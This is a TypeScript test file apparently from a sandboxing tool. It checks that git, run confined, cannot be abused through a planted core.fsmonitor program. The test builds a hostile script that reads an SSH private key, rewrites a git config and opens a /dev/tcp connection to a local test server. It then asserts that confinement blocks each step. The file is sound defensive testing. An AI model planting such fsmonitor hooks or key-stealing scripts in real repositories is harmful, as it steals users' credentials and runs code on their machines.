import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { confinedCommand, detectConfinement } from '../../../src/core/sandbox/index.js';
import { findGit, hostGitPolicy } from '../../../src/core/sandbox/host-git.js';
import { makeTempDir, removeDir } from '../permissions/helpers.js';
import { plainGit } from './git-layouts.js';
import { recordAttacks } from './record.js';

/**
 * The second defence of the host git, on its own (issue 21): confinement alone holds even when
 * git does start a program the workspace names. Here the disarming is bypassed on purpose: a
 * plain `git status` (no `-c` overrides) in a nested repository whose core.fsmonitor is a program
 * the "command" wrote. Run under the policy the checkpoints use, that program does run, but it
 * cannot read the person's home, reach the network, or write anywhere but the shadow store; for
 * a restore (work tree writable) the repositories' git folders stay read-only.
 *
 * Before the change (bfd1589) the checkpoints' git ran unconfined: the control run below is what
 * happened then (the key copied into the workspace).
 */
describe('attacks: the host git confined, with its disarming bypassed', function () {
  recordAttacks('host git confinement', 'a program git starts on the host reaches nothing but the shadow store');
  this.timeout(60_000);
  let dir: string;
  let home: string;
  let ws: string;
  let store: string;
  let server: Server;
  let port: number;
  let connections = 0;

  before(async function () {
    const status = await detectConfinement();
    if (!status.confined) this.skip();
    server = createServer((s) => {
      connections++;
      s.destroy();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    port = (server.address() as { port: number }).port;
  });
  after(() => server?.close());

  beforeEach(() => {
    connections = 0;
    dir = makeTempDir('pepe-hgconf-');
    home = join(dir, 'home');
    ws = join(home, 'project');
    store = join(home, '.pepe', 'checkpoints', 'abc');
    mkdirSync(join(home, '.ssh'), { recursive: true });
    writeFileSync(join(home, '.ssh', 'id_ed25519'), 'PRIVATE KEY\n');
    mkdirSync(store, { recursive: true });
    mkdirSync(join(ws, 'sub'), { recursive: true });
    plainGit(join(ws, 'sub'), 'init', '-q');
    // What a confined command leaves behind: a program, and a nested repository naming it.
    const program = join(ws, '.evil.sh');
    writeFileSync(
      program,
      [
        '#!/bin/bash',
        `echo ran >> '${store}/ran'`,
        `cat '${home}/.ssh/id_ed25519' >> '${ws}/stolen' 2>/dev/null`,
        `cat '${home}/.ssh/id_ed25519' >> '${store}/stolen' 2>/dev/null`,
        `echo planted >> '${ws}/sub/.git/config' 2>/dev/null`,
        `echo x > /dev/tcp/127.0.0.1/${port} 2>/dev/null && echo reached >> '${store}/net'`,
        'exit 1',
        '',
      ].join('\n'),
    );
    chmodSync(program, 0o755);
    appendFileSync(join(ws, 'sub', '.git', 'config'), `[core]\n\tfsmonitor = ${program}\n`);
  });
  afterEach(() => removeDir(dir));

  /** `git status` in the nested repository, with none of the disarming: confined by the checkpoints' policy, or not. */
  function gitStatus(confined: false | { writeWorkTree: boolean }): Promise<void> {
    const argv = [findGit()!, '-C', join(ws, 'sub'), 'status'];
    let file = argv[0]!;
    let args = argv.slice(1);
    if (confined) {
      const policy = hostGitPolicy({ workTree: ws, store, writeWorkTree: confined.writeWorkTree, gitFolders: [join(ws, 'sub', '.git')], home, pepeHome: join(home, '.pepe'), gitProgram: argv[0]! });
      ({ file, args } = confinedCommand(policy, argv));
    }
    return new Promise((resolve) => execFile(file, args, { cwd: ws, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: store, GIT_CONFIG_NOSYSTEM: '1' } }, () => resolve()));
  }

  const read = (p: string) => (existsSync(p) ? readFileSync(p, 'utf8') : '');

  it('control: unconfined, the planted program steals the key, reaches the network and rewrites the nested config', async () => {
    await gitStatus(false);
    assert.match(read(join(store, 'ran')), /ran/);
    assert.match(read(join(ws, 'stolen')), /PRIVATE KEY/);
    assert.match(read(join(ws, 'sub', '.git', 'config')), /planted/);
    assert.ok(connections > 0 || read(join(store, 'net')) !== '', 'the loopback server was not reached');
  });

  for (const writeWorkTree of [false, true]) {
    it(`confined (${writeWorkTree ? 'a restore: work tree writable' : 'a snapshot: work tree read-only'}): the program runs but reaches only the store`, async () => {
      await gitStatus({ writeWorkTree });
      assert.match(read(join(store, 'ran')), /ran/, 'the program did not run at all: this test would prove nothing');
      assert.equal(read(join(ws, 'stolen')), '', 'wrote the key into the workspace');
      assert.equal(read(join(store, 'stolen')), '', 'read the key in the home folder');
      assert.doesNotMatch(read(join(ws, 'sub', '.git', 'config')), /planted/, 'rewrote a git configuration in the workspace');
      assert.equal(read(join(store, 'net')), '', 'reached the network');
      assert.equal(connections, 0);
    });
  }
});
